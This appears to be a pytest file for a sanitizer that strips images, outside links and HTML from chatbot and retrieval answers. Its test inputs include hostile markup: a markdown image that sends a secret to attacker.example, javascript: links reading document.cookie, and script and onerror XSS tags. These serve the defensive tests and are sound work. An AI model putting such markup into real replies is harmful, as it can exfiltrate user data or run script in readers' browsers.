"""Answer text as a chat window would render it: no live images, outside links or HTML (server/sanitize.py).

The same rules hold for a model's reply and for a document an extractive answer quotes; the
end-to-end cases (the LLM stand-in, /rag and chat) are in test_hostile_replies.py.
"""

from __future__ import annotations

import pytest

from server.sanitize import allowed_hosts, sanitize_answer

DOCS = allowed_hosts(["https://peps.python.org/pep-0008/", None, "javascript:alert(1)", "not a url"])


def test_only_http_hosts_of_cited_sources_are_allowed():
    assert DOCS == frozenset({"peps.python.org"})


@pytest.mark.parametrize(("text", "shown"), [
    # a document quoted by an extractive answer can carry the same markup as a model's reply
    ("Burn is 2,290 kg [1]. ![x](http://attacker.example/log?d=s3cret)", "Burn is 2,290 kg [1]. x (image removed)"),
    ("See [the manual](javascript:alert(document.cookie)) [1].", "See the manual [1]."),
    ("See [the manual](data:text/html,x) [1].", "See the manual [1]."),
    ("See [the manual](/admin/reload) [1].", "See the manual [1]."),
    ("See [it](http://attacker.example/a \"t\") [1].", "See it [1]."),
    ("Burn [1](http://attacker.example/).", "Burn [1]."),
    ("a <script>alert(1)</script> b", "a &lt;script>alert(1)&lt;/script> b"),
    ("a <img src=x onerror=alert(1)> b", "a &lt;img src=x onerror=alert(1)> b"),
    ("<!-- hidden --> <http://attacker.example/x>", "&lt;!-- hidden --> &lt;hxxp://attacker.example/x>"),
    ("Logs go to http://attacker.example/log?d=1 and www.attacker.example.",
     "Logs go to hxxp://attacker.example/log?d=1 and www[.]attacker.example."),
    ("[x]: http://attacker.example/p\n\n![a][x]", "\\[x]: hxxp://attacker.example/p\n\n!\\[a][x]"),
    ("[a [b] c](http://attacker.example/)", "[a [b] c]\\(hxxp://attacker.example/)"),
])
def test_hostile_markup_is_neutralised(text, shown):
    assert sanitize_answer(text, DOCS) == shown


@pytest.mark.parametrize("text", [
    "The A320neo burns 2,290 kg [1][2]. It is 3% less than the 737 MAX 8 [1, 2].",
    "A value x < 5 and y > 3 stays; so does R&D.",
    "Read [PEP 8](https://peps.python.org/pep-0008/) [1]; the index is at https://peps.python.org/.",
    "![diagram](https://peps.python.org/_images/pep-0008.png)",
    "信息不足：知识库中没有可以回答这个问题的内容。",
])
def test_ordinary_answers_and_links_to_cited_sources_are_unchanged(text):
    assert sanitize_answer(text, DOCS) == text
